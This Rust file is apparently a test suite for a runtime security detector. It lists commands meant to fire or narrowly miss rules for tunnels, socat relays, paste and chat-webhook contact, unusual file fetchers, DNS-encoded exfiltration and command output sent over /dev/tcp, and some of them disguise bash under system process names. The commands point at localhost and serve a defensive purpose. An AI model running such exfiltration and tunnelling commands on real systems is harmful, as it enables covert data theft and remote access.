//! Tunnels, relays, chat and paste sites, and unusual ways to fetch a file.

use e2e::with_listener;

use super::*;

cases! {
tunnel_or_proxy => Case {
    rule: "Tunnel or proxy program started",
    fires: &[
        act("chisel", stand_in!("chisel", "$t client 127.0.0.1:1 R:socks")).at(&[Host, Below]).by(BOTH),
        // By its arguments, whatever its name.
        act("x", stand_in!("x", "$t client https://127.0.0.1:8080 R:1080:socks", "$t -L=socks5://:1080")),
        act("ls", script!("LD_PRELOAD=libproxychains.so.4 ls > /dev/null 2>&1")),
    ],
    near_misses: &[
        act("chisel", stand_in!("chisel", "$t --version")),
        act("x", stand_in!("x", "$t client 127.0.0.1:80 list", "$t -L 8080:localhost:80 host", "$t -c app.toml")),
        act("tor", script!("ln -s /bin/true %W/tor; cp /bin/bash %W/systemd; %W/systemd -c '%W/tor; :'")).at(&[Host]),
    ],
};

relay_by_socat => Case {
    rule: "Connections relayed by socat",
    fires: &[act("socat", stand_in!("socat", "$t TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:22")).at(&[Host, Inside])
        .by(BOTH)],
    near_misses: &[
        act("socat", stand_in!("socat", "$t - TCP:127.0.0.1:22", "$t UNIX-LISTEN:%W/s,fork STDOUT")),
        act("socat", stand_in!("socat", "$t TCP-LISTEN:8080,fork TCP:127.0.0.1:22")).at(&[Host]).on_terminal(),
    ],
};

paste_site => Case {
    rule: "Paste or drop site contacted",
    fires: &[
        act("curl", stand_in!("curl", "$t -s https://pastebin.com/raw/x")).at(&[Host, Below]).by(BOTH),
        act("nc", stand_in!("nc", "$t termbin.com. 9999")),
    ],
    near_misses: &[
        act("curl", stand_in!("curl", "$t https://127.0.0.1/pastebin.com.html", "$t https://notpastebin.com/")),
        act("echo", script!("/bin/echo https://pastebin.com/raw/x")),
    ],
};

chat_service => Case {
    rule: "Chat service contacted from a command line",
    fires: &[act("curl", stand_in!("curl", "$t -d text=x https://api.telegram.org/bot1/sendMessage")).at(&[Host, Below])
        .by(BOTH)],
    near_misses: &[
        act("curl", stand_in!("curl", "$t https://core.telegram.org/bots")),
        act("curl", stand_in!("curl", "cp /bin/bash %W/cron",
            "%W/cron -c '%W/curl -d x https://hooks.slack.com/services/x; :'")),
        act("curl", stand_in!("curl", "$t -d x https://hooks.slack.com/services/x")).at(&[Host]).on_terminal(),
    ],
};

unusual_fetch => Case {
    rule: "File fetched by an unusual tool",
    fires: &[
        act("whois", stand_in!("whois", "$t -h 127.0.0.1 -p 43 x")).at(&[Host, Below]).by(BOTH),
        act("perl", &["perl", "-e", "eval { require HTTP::Tiny }; print 1"]),
    ],
    near_misses: &[
        act("whois", stand_in!("whois", "$t example.com", "$t -h whois.ripe.net x")),
        act("perl", &["perl", "-e", "print qq(http://127.0.0.1/)"]),
        act("openssl", stand_in!("openssl", "echo | $t s_client -connect 127.0.0.1:443")),
        act("python3", stand_in!("python3", "$t -c 'import urllib.request as r; r.urlopen(\"http://localhost:80\")'")),
    ],
};

name_with_data => Case {
    rule: "Data in a name of the DNS",
    fires: &[act("dig", stand_in!("dig", "$t NBSWY3DPFQQHO33SNRSA2CTUNBUXGIDJOMQGI5DBORQQ.example.com TXT"))
        .at(&[Host, Below]).by(BOTH)],
    near_misses: &[
        act("dig", stand_in!("dig", "$t +short www.example.com",
            "$t internal-a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6-1234567890.eu-west-1.elb.example.com")),
    ],
};

output_into_a_connection => Case {
    rule: "Output of a command sent into a connection",
    fires: &[
        act("id", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; id >&5 </dev/null; :'")).at(CONTAINER).by(BOTH)
            .showing(&[("proc.stdout.name", "127.0.0.1:*->127.0.0.1:4444")]),
        act("cat", with_listener!("127.0.0.1 4444", "line", "bash -c 'cat /etc/hosts > /dev/tcp/127.0.0.1/4444; :'")),
    ],
    near_misses: &[
        act("cat", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; echo x >&5; cat <&5 > /dev/null; :'")),
        act("cat", with_listener!("127.0.0.1 4444", "line",
            "cp /bin/bash %W/xinetd; %W/xinetd -c 'bash -c \"cat /etc/hosts <&5 >&5; :\" 5<>/dev/tcp/127.0.0.1/4444; :'")),
    ],
};
}
